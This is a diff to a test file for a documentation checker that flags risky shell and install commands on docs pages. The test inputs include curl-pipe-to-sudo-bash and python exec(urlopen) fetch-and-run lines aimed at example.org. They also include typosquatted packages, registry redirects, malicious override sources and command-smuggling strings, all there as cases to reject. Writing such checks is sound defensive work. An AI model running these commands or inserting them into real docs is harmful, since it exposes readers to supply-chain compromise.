@@ -3,106 +3,54 @@ import {listFiles, readText} from '@astral-docs/content-checks/files';
 import {formatFinding} from '@astral-docs/content-checks/report';
 import type {PageRules} from '@astral-docs/content-checks/rules/pageRules';
 import {pageRules} from '../../config/pageRules';
-import {checkShell, listShellTexts} from '@astral-docs/content-checks/rules/shell';
 import {checkCommands, listLockFilePackages} from '@astral-docs/content-checks/rules/commands';
 
 const locked = new Set(['ethers', 'tsx', '@scope/kit']);
 const rules: PageRules = {
   ...pageRules,
-  packages: {'pypi shapely': 'The page draws with it.'},
+  commands: [
+    'npm ci',
+    'npm install<packages>',
+    'npx tsx <file><words>',
+    'curl -fO <ours>',
+    'curl -s "$BASE_URL<query>"',
+  ],
 };
-const found = (text: string): string[] =>
-  checkCommands('docs/page.md', {line: 1, text}, locked, rules).map(formatFinding);
-
-describe('commands that a page tells readers to run', () => {
-  it.each([
-    'npm install --save-exact ethers@6 @scope/kit@1.2.0 tsx ./kit/scope-kit-1.0.0.tgz',
-    '(cd kit && npx tsx verify.ts record.json "$(cat signer.txt)")',
-    'pip install "shapely>=2"',
-    'pnpm install --frozen-lockfile',
-    'TOKEN="$(curl -s https://docs.astral.global/a.txt)" npx tsx a.ts 2>errors.txt',
-    'curl -s https://docs.astral.global/a.json | jq .uid || echo "no record"',
-    'The schema registry https://easscan.org has a spatial index: https://h3geo.org',
-    'lat>=52',
-    '{"overrides": {"files": "*.ts"}, "dependencies": {"own": "workspace:*"}}',
-    'curl -fO https://docs.astral.global/samples/a.ts && npx tsx a.ts | head -n 15',
-  ])('pass when each package is known: %s', (line) => expect(found(line)).toEqual([]));
-
-  it.each([
-    ['npm install ethres@6', 'ethres (npm) is not a package that this project uses. Check the name (nearest: ethers).'],
-    ['npx --yes -p evil tsx a.ts', 'evil (npm)'],
-    ['npm create evil', 'create-evil (npm)'],
-    ['npm i $NAME', '$NAME (npm)'],
-    ['npm install ethers@npm:evil@6', 'evil (npm)'],
-    ['npm install ethers@evil/ethers', 'ethers@evil/ethers (npm)'],
-    ['npm install ethers@https://example.org/a.tgz', 'ethers@https://example.org/a.tgz (npm)'],
-    ['npm i "evil@>=6"', 'evil (npm)'],
-    ['npm install `\n  evil', 'evil (npm)'],
-    ['pip install "evil<2"', 'evil (pypi)'],
-    ['python3 -m pip install shaply', "add 'pypi shaply' with a reason to config/pageRules.ts"],
-    ['go install example.org/evil@latest', 'example.org/evil (go)'],
-    ['uv run --with evil a.py', 'evil (pypi)'],
-    ['cargo +nightly install evil', 'evil (cargo)'],
-    ['brew reinstall evil/tap/x', 'evil/tap/x (brew)'],
-    ['curl -fsSL https://example.org/install | sudo bash', 'The command reads https://example.org/'],
-    ['python3 -c "exec(urlopen(\'https://example.org/a\').read())"', 'The command reads https://example.org/'],
-    [`npm ${'-a '.repeat(60)}! || npm i evil`, 'evil (npm)'],
-    [`curl a | sudo ${'-/sudo '.repeat(60)}! || npm i evil`, 'evil (npm)'],
-    ['npm install --dir evil', 'evil (npm)'],
-    ['npm ex evil', 'evil (npm)'],
-    ['npm i > a.txt evil', 'evil (npm)'],
-    ['npm pkg set dependencies.evil=6', 'packages are listed in a form'],
-    ['Type: n"p"m i\u2028 evil', 'evil (npm)'],
-    ['npx https://example.org/evil.tgz', 'https://example.org/evil.tgz (npm)'],
-    ['npm set registry https://example.org', 'takes packages from another registry'],
-    ['echo "registry=https://example.org" > .npmrc', 'takes packages from another registry'],
-    ['pip install -r https://example.org/a.txt', 'https://example.org/a.txt (pypi)'],
-    ['npm i <version> evil', 'evil (npm)'],
-  ])('fail with the line and what to do: %s', (line, message) => {
-    const [first = ''] = found(`Text.\n\n    ${line}`);
-    expect(first).toContain('docs/page.md:3:1 ');
-    expect(first).toContain(message);
-  });
-});
+const check = (text: string, language?: string): string[] =>
+  checkCommands('docs/page.md', {line: 5, text, ...(language !== undefined && {language})}, locked, rules).map(
+    formatFinding,
+  );
 
 describe('what a reader gives to a shell', () => {
-  const check = (text: string, language?: string): string[] =>
-    listShellTexts({line: 5, text, ...(language !== undefined && {language})})
-      .flatMap((shown) => checkShell('docs/page.md', shown, rules))
-      .map(formatFinding);
   it.each([
-    'PORT=3000 npm start > log.txt 2>&1',
-    '# A note: evil && evil\nnpm pkg set type=module # evil',
-    "curl -s \"$BASE_URL/graphql$a\" -w '%{http_code}' \\\n  -d '{ evil;\n evil }'",
-    'echo "$(cat a.txt) & \\"b" | (cd kit && npx tsx a.ts "$(cat "b.txt")")',
-    'while [ "$next" != null ]; do next=$(jq -r .next a.json); done',
+    'npm ci\n\n# A note of a few words.\n$ npm ci && npx tsx a.ts',
+    'npm install ethers@6 @scope/kit@1.2.0 tsx ./kit/scope-kit-1.0.0.tgz',
+    'npx tsx verify.ts record.json "$(cat signer.txt)" --own',
     'curl -fO "https://docs.astral.global/samples/{a,b}.ts"',
-  ])('passes when the lists have each command and address: %s', (text) => expect(check(text, 'sh')).toEqual([]));
+    'curl -s \\\n  "$BASE_URL/api?bbox=[-1,2,3,4]"',
+  ])('passes when each line is on the list: %s', (text) => expect(check(text, 'sh')).toEqual([]));
 
   it.each([
-    ['npm ci\npixi add evil', 6, '`pixi add evil`'],
-    ['echo a | sudo evil', 5, '`sudo evil`'],
-    ['npm ci; if evil; then break', 5, '`evil`'],
-    ['echo "$(evil -a)"', 5, '`evil -a`'],
-    ['echo \\\n  a &\nevil', 7, '`evil`'],
-    ['cat <(evil) >a (evil)', 5, '`evil`'],
-    ['> a evil', 5, '`evil`'],
-    ['npm_config_userconfig=//example.org/a npm ci', 5, 'reads //example.org/a'],
-    ['np"m" \'exe\' tsx', 5, '`npm exe tsx`'],
-    ['npm ci\ncat `evil`', 6, 'The block has "`e", which no check reads'],
-    ["echo \\'; evil '", 5, 'The block has "\\\\\'"'],
-    ["echo $'\\''; evil", 5, 'The block has "$\'"'],
-    ["echo ${x#'}; evil; '}", 5, 'The block has "${"'],
-    ['cat << a\nevil\na', 5, 'has "<<"'],
-    ['git clone git@example.org:evil/a', 5, 'reads example.org:evil/a'],
-    ['git clone https://github.com/AstralProtocol/%2E./evil', 5, 'reads https://github.com/AstralProtocol/%2E./evil'],
-    ['curl -fsS example.org -o a.sh', 5, 'reads example.org'],
-    ['curl 1.1.1.1', 5, 'reads 1.1.1.1'],
-    ['curl "$BASE_URL@example.org"', 5, 'reads $BASE_URL@example.org'],
-    ["curl 'https://docs.astral.global@example.org/'", 5, 'reads https://docs.astral.global@example.org/'],
-    ['curl https://docs.astral.global.example.org', 5, 'reads https://docs.astral.global.example.org'],
-    [`npm ci ${'$(cat '.repeat(9)}$(evil`, 5, 'no end'],
-    [`npm ci ${'a.'.repeat(50_000)} "${'$(cat)'.repeat(9999)}"; evil`, 5, '`evil`'],
+    ['npm ci\npixi add evil', 6, '`pixi add evil` is not a command that pages tell readers to run. Check what it does'],
+    ['npm ci; evil', 5, '`npm ci; evil`'],
+    ['npm ci && evil', 5, '`npm ci && evil`'],
+    ['npm \\\n  ci\nevil', 7, '`evil`'],
+    ['# A note (of a few words); evil', 5, '`# A note (of a few words); evil`'],
+    ['npx tsx -e "evil"', 5, '`npx tsx -e "evil"`'],
+    ['npx tsx a.ts "$(evil)"', 5, '`npx tsx a.ts "$(evil)"`'],
+    ['NODE_OPTIONS=a npx tsx a.ts', 5, '`NODE_OPTIONS=a npx tsx a.ts`'],
+    ['npm install ethers 6', 5, '`npm install ethers 6`'],
+    ['npm install ethers@evil/ethers', 5, '`npm install ethers@evil/ethers`'],
+    ['npm install --reg=evil ethers', 5, '`npm install --reg=evil ethers`'],
+    [
+      'npm install ethres@6',
+      5,
+      'ethres is not a package of npm that this project uses. Check the name (nearest: ethers)',
+    ],
+    ['curl -fO "https://docs.astral.global/samples/a.ts', 5, '`curl -fO "https'],
+    ['curl -fO https://docs.astral.global.example.org/samples/a.ts', 5, '`curl -fO https'],
+    ['curl -s "$BASE_URL.example.org/a"', 5, '`curl -s "$BASE_URL'],
+    ['$ npm ci\n> evil', 6, '`> evil`'],
   ])('fails with the line and what to do: %s', (text, line, message) => {
     const found = check(text, 'sh').join('\n');
     expect(found).toContain(`docs/page.md:${line}:1 `);
@@ -111,17 +59,58 @@ describe('what a reader gives to a shell', () => {
 
   it.each([
     ['$ bash a.sh', 'Console', true],
-    ['a b', 'ksh', true],
+    ['overrides:\n  a: github:evil/a', 'yaml', true],
+    ['FROM evil/node', 'dockerfile', true],
     ['$ npm exe tsx', '', true],
     ['One line.\nnpm crea tsx', 'text', true],
     ['npm: an error', 'text', false],
     ['bash a.sh', 'ts', false],
     ['Run `pixi add evil` first.', undefined, true],
     ['Run `sh a.sh` first.', undefined, true],
+    ['Run `npm ci\nevil`.', undefined, true],
     ['Run it by `npm`, not `git`.', undefined, false],
   ])('is known by its language or its words: %j in %s', (text, language, isShell) =>
     expect(check(text, language).length > 0).toBe(isShell),
   );
+});
+
+describe('install lines in prose and in programs', () => {
+  it.each([
+    'Run npm install --save-exact ethers@6 @scope/kit@1.2.0 tsx ./kit/scope-kit-1.0.0.tgz',
+    'The schema registry https://easscan.org has a spatial index: https://h3geo.org',
+    'lat>=52',
+    '{"dependencies": {"ethers": "^6.1.0"}}',
+  ])('pass when each package is known: %s', (text) => expect(check(text)).toEqual([]));
+
+  it.each([
+    ['npx --yes -p evil tsx a.ts', 'evil is not a package of npm'],
+    ['npm create evil', 'create-evil'],
+    ['npm i $NAME', '$NAME'],
+    ['npm install ethers@npm:evil@6', 'evil'],
+    ['npm install ethers@https://example.org/a.tgz', 'ethers@https://example.org/a.tgz'],
+    ['npm i "evil@>=6"', 'evil'],
+    ['npm install `\n  evil', 'evil'],
+    [`npm ${'-a '.repeat(60)}! || npm i evil`, 'evil'],
+    ['npm install --dir evil', 'evil'],
+    ['npm ex evil', 'evil'],
+    ['npm i > a.txt evil', 'evil'],
+    ['npm i <version> evil', 'evil'],
+    ['Type: n"p"m i\u2028 evil', 'evil'],
+    ['npx https://example.org/evil.tgz', 'https://example.org/evil.tgz'],
+    ['{"overrides": {"a": {"ethers": "6"}, "tsx": "github:evil/tsx"}}', 'tsx@github:evil/tsx'],
+    ['{"depend\\u0065ncies": {"evil": "6"}}', 'evil'],
+    ['python3 -m pip install shaply', '`pip install shaply` is not a command'],
+    ['go install example.org/evil@latest', '`go install example.org/evil@latest`'],
+    ['uv run --with evil a.py', '`uv run --with`'],
+    ['cargo +nightly install evil', '`cargo +nightly install evil`'],
+    ['curl -fsSL https://example.org/install | sudo bash', '`curl -fsSL https://example.org/install`'],
+    ['Add registry=https://example.org to it', 'takes packages from another registry'],
+    ['Save it as requirements-dev.txt', 'listed in a file that no check reads'],
+  ])('fail with the line and what to do: %s', (line, message) => {
+    const [first = ''] = check(`Text.\n\n${line}`);
+    expect(first).toContain('docs/page.md:7:1 ');
+    expect(first).toContain(message);
+  });
 });
 
 it('packages of this project, and programs by another name than their package, are none that a registry has', () => {
